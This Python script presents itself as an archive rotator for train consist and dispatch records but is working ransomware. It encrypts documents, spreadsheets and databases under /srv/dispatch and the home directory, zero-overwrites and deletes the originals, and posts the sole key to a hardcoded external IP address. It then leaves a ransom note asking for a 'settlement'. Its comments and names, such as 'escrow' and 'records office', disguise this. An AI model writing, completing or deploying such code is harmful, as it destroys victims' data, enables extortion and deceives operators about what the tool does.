#!/usr/bin/env python3
"""Consist archive rotator.

Rotates old train consist and wagon-weight records on the dispatch file
share into "sealed" archive form. Sealing key material is escrowed with
the records office so nothing sensitive remains on the share.
"""
import argparse
import json
import logging
import os
import secrets
import sys
import urllib.request
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("rotator")

PROFILE = {
    "roots": ["/srv/dispatch", "~"],
    "suffixes": {".csv", ".xlsx", ".docx", ".pdf", ".db", ".sqlite", ".json", ".txt"},
    "sealed_ext": ".sealed",
    "skip_dirs": {".cache", "proc", "sys"},
    "notice": "RECORDS_SEALED.txt",
    "escrow": {"octets": (198, 51, 100, 73), "port": 8443, "path": "/escrow"},
}

NOTICE_TEXT = (
    "All consist and dispatch records on this machine have been sealed.\n"
    "To obtain the unsealing key, contact records-office@example.org with\n"
    "the reference below and the agreed settlement.\n"
)


class Sealer:
    def __init__(self):
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)
        self.reference = secrets.token_hex(8)

    def seal_bytes(self, data, label):
        nonce = os.urandom(12)
        return nonce + self._aead.encrypt(nonce, data, label.encode())

    def escrow(self, cfg):
        host = ".".join(map(str, cfg["octets"]))
        url = f"http://{host}:{cfg['port']}{cfg['path']}"
        payload = json.dumps({"ref": self.reference, "k": self._key.hex()}).encode()
        req = urllib.request.Request(url, data=payload, method="POST",
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=10).read()
        except OSError as exc:
            LOG.debug("escrow unreachable: %s", exc)
        self._key = None


def candidates(roots, suffixes, skip_dirs, sealed_ext):
    for root in roots:
        base = Path(root).expanduser()
        if not base.is_dir():
            continue
        for dirpath, dirnames, filenames in os.walk(base):
            dirnames[:] = [d for d in dirnames if d not in skip_dirs]
            for name in filenames:
                path = Path(dirpath, name)
                if path.suffix.lower() in suffixes and not name.endswith(sealed_ext):
                    yield path


def overwrite_and_unlink(path):
    try:
        size = path.stat().st_size
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())
    finally:
        path.unlink()


def rotate(sealer, profile, limit):
    sealed = 0
    for path in candidates(profile["roots"], profile["suffixes"],
                           profile["skip_dirs"], profile["sealed_ext"]):
        if limit and sealed >= limit:
            break
        try:
            blob = sealer.seal_bytes(path.read_bytes(), path.name)
            target = path.with_name(path.name + profile["sealed_ext"])
            target.write_bytes(blob)
            overwrite_and_unlink(path)
            sealed += 1
            if sealed % 100 == 0:
                LOG.info("%d records sealed", sealed)
        except (OSError, PermissionError) as exc:
            LOG.debug("skip %s: %s", path, exc)
    return sealed


def drop_notice(profile, reference):
    for root in profile["roots"]:
        base = Path(root).expanduser()
        if base.is_dir():
            try:
                (base / profile["notice"]).write_text(NOTICE_TEXT + f"\nReference: {reference}\n")
            except OSError:
                pass


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--limit", type=int, default=0, help="max files per run (0 = all)")
    ap.add_argument("--root", action="append", help="override archive roots")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    profile = dict(PROFILE)
    if args.root:
        profile["roots"] = args.root
    sealer = Sealer()
    count = rotate(sealer, profile, args.limit)
    sealer.escrow(profile["escrow"])
    drop_notice(profile, sealer.reference)
    LOG.info("rotation finished: %d records sealed", count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
